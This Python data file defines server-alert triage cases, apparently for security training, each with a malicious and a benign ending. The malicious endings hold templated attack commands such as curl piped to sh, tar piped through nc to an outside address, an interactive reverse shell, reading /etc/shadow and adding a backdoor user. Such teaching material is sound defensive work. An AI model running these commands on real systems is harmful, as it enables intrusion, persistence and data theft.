"""More cases to learn from: servers and their services."""

from authoring.triage.world import Case, Ending

CASES = (
    Case(
        "web_shell",
        "Web server starts a shell",
        (
            "The web server on {host} started a command shell; the request came from {address}.",
            "{host}: the process that serves web pages became the parent of a shell, on a request of {address}.",
            "A visitor at {address} made the web server of {host} run a shell.",
            "Web log and process log of {host} agree: request of {address}, then sh.",
        ),
        (
            Ending(
                "exploited_server",
                {
                    "processes": (
                        "httpd\n  sh -c 'id; uname -a'\n    {file}, new file in the upload folder, waits for commands"
                    )
                },
            ),
            Ending(
                "known_software",
                {
                    "processes": (
                        "httpd\n  sh -c 'convert scan.tif scan.pdf' (the shop's own picture converter), ended after 2 s"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "build_miner",
        "Build server busy without a build",
        (
            "{host} is at full load, and no build is queued.",
            "The queue is empty, yet every core of {host} is at work.",
            "{host} builds nothing at the moment. Its load says otherwise: 100 %.",
            "Why is {host} running hot with no build waiting? Please look into it.",
        ),
        (
            Ending(
                "mining", {"processes": "agent\n  bash -c 'curl {address}/x | sh'\n    {file} -o stratum --donate 1"}
            ),
            Ending(
                "planned_change",
                {"change": ("{change} {host} {start}-{end}: all packages compiled anew outside the queue, by {user}")},
            ),
        ),
        server=True,
    ),
    Case(
        "sideways",
        "Sign-in between computers",
        (
            "{host2} opened an administrative session on {host}.",
            "{host} let in an administrator who came from {host2}.",
            "Session with full rights: source {host2}, target {host}.",
            "From {host2} somebody is at work on {host} with administrator rights.",
        ),
        (
            Ending(
                "malware",
                {
                    "processes host2": (
                        "services.exe\n"
                        "  {file}.exe, unsigned, holds a stolen token and tries one host after the other, led "
                        "by {address}"
                    )
                },
                where="host2",
            ),
            Ending(
                "known_software",
                {
                    "processes host2": (
                        "services.exe\n  deploy.exe (signed by our IT), hands out this week's updates to every host"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "logs_cleared",
        "Logs were cleared",
        (
            "The security log of {host} was cleared by {user}.",
            "{user} emptied the security log on {host}.",
            "The security log of {host} starts anew: what was there is gone. Account: {user}.",
            "Event 1102 on {host}, raised by {user}: audit log empty.",
        ),
        (
            Ending(
                "exploited_server",
                {
                    "processes": (
                        "sshd, tricked by {address} into a session of {user} without a password\n  bash\n"
                        "    log cleared\n    {file}, unknown, listens on port 4444"
                    )
                },
            ),
            Ending(
                "planned_change", {"change": "{change} {host} {start}-{end}: logs archived, then cleared, by {user}"}
            ),
        ),
        server=True,
    ),
    Case(
        "scan_from_outside",
        "Attack patterns in requests",
        (
            "{count}00 requests with attack patterns reached {host} from {address}.",
            "{address} throws everything at {host}: {count}00 requests that look like attacks.",
            "Web filter of {host}: {count}00 hits on attack signatures, one source, {address}.",
            "{host} is being tried out by {address}; we count {count}00 suspicious requests.",
        ),
        (
            Ending(
                "exploited_server",
                {
                    "processes": (
                        "java\n  one request got through: sh -c 'wget {address}/{file}'\n    {file}, runs as root"
                    )
                },
            ),
            Ending(
                "authorised_test",
                {
                    "address": (
                        "our tester's: registered with us for the test of {host}, ordered by {boss}, from "
                        "{last} until {next}"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "shared_folder",
        "Files on a share are encrypted",
        (
            "Files of the share on {host} get the ending .enc; the writer is {host2}, account {user}.",
            "{host2} rewrites files on the share of {host} so that they end in .enc. Signed in is {user}.",
            "The share of {host} fills with .enc files. They are written by {user} from {host2}.",
            "{user}, working on {host2}, turns one document after the other on {host} into .enc files.",
        ),
        (
            Ending(
                "ransomware",
                {
                    "processes host2": (
                        "explorer.exe\n  {file}.exe, unsigned, encrypts every share it finds\n"
                        "    asks for money in README.hta"
                    )
                },
                where="host2",
            ),
            Ending(
                "known_software",
                {
                    "processes host2": (
                        "explorer.exe\n  vault.exe (signed, the lawyers' encryption program), project folder {number}"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "root_login",
        "Direct sign-in as root",
        (
            "Somebody signed in as root on {host} from {address}.",
            "{host} has a root session, opened from {address}.",
            "Sign-in as root, which we do not do, on {host}; the other end is {address}.",
            "Root is on {host}. The connection comes from {address}.",
        ),
        (
            Ending(
                "exploited_server",
                {
                    "processes": (
                        "sshd, flaw used by {address}: root without a password\n  bash\n    useradd backdoor\n"
                        "    {file}, unsigned, hides its files"
                    )
                },
            ),
            Ending(
                "planned_change",
                {
                    "change": (
                        "{change} {host} {start}-{end}: repair of the file system, needs root, by the maker's "
                        "engineer at {address}"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "backup_traffic",
        "Unusual outgoing traffic",
        (
            "{host} sent {count} GB to {address} since {before}.",
            "{count} GB have left {host} for {address} since {before}.",
            "{address} got {count} GB from {host}. It began at {before}.",
            "Traffic out of {host}, counted from {before}: {count} GB, one receiver, {address}.",
        ),
        (
            Ending(
                "exploited_server",
                {"processes": "nginx\n  php, page changed at {before}\n    tar cz /home | nc {address} 443"},
            ),
            Ending(
                "known_software",
                {
                    "past": (
                        "{old}: the weekly copy to the second data centre at {address}; exception recorded, "
                        "holds until {next}."
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "switched_off_guard",
        "Virus scanner switched off",
        (
            "The virus scanner on {host} was switched off by {user}.",
            "{host} is without protection: {user} stopped the virus scanner.",
            "Virus scanner off. Server {host}, account {user}.",
            "Somebody used the account {user} to end the virus scanner of {host}.",
        ),
        (
            Ending(
                "malware",
                {
                    "processes": (
                        "cmd.exe\n  sc.exe stop guardscan\n"
                        "  {file}.exe, unsigned, started ten seconds later, talks to {address}"
                    )
                },
            ),
            Ending(
                "planned_change",
                {"change": "{change} {host} {start}-{end}: database moved, virus scanner off meanwhile, by {user}"},
            ),
        ),
        server=True,
    ),
    Case(
        "old_hole",
        "Known hole was tried",
        (
            "A request from {address} to {host} tries a hole known since {old}.",
            "{host} got a request made for a hole published on {old}; sender {address}.",
            "Somebody at {address} is trying last season's exploit (out since {old}) on {host}.",
            "Signature match on {host}: attack on a hole that is public since {old}. Source {address}.",
        ),
        (
            Ending(
                "exploited_server",
                {
                    "processes": "wiki\n  bash -i, connected to {address}\n    cat /etc/shadow",
                    "host": "Patch for that hole: missing.",
                },
            ),
            Ending(
                "authorised_test",
                {"change": "{change} {host} {start}-{end}: penetration test from {address}, ordered by {boss}"},
            ),
        ),
        server=True,
    ),
    Case(
        "scheduled_job",
        "New scheduled job",
        (
            'A job that starts "{file}" every minute was added on {host}.',
            "{host} will now start {file} once a minute: new line in the job table.",
            'Job table of {host}: "* * * * * {file}" was not there an hour ago.',
            "Every minute {host} runs {file}; nobody told us about that job.",
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "cron\n  {file}, from /tmp, unsigned\n    connected to {address}, sends hashes, uses all cores"
                    )
                },
            ),
            Ending(
                "known_software",
                {"processes": "cron\n  {file} (of our monitoring, signed), sends the free disk space, 0.1 s each"},
            ),
        ),
        server=True,
    ),
    Case(
        "print_server",
        "Print server talks to the internet",
        (
            "{host} opened a connection to {address} for the first time.",
            "Until today {host} never spoke to anybody outside. Now it does: {address}.",
            "New peer for {host}: {address}.",
            "{host} prints for the whole house. Now it has a connection to {address}, which is not in our list.",
        ),
        (
            Ending(
                "malware",
                {
                    "processes": (
                        "spoolsv.exe\n  {file}.dll, unsigned, came hidden in a driver that somebody had downloaded\n"
                        "    cmd.exe /c net view, answers to {address}"
                    )
                },
            ),
            Ending(
                "planned_change",
                {
                    "change": (
                        "{change} {host} {start}-{end}: printer makers' cloud service at {address} set up, by {user}"
                    )
                },
            ),
        ),
        server=True,
    ),
)
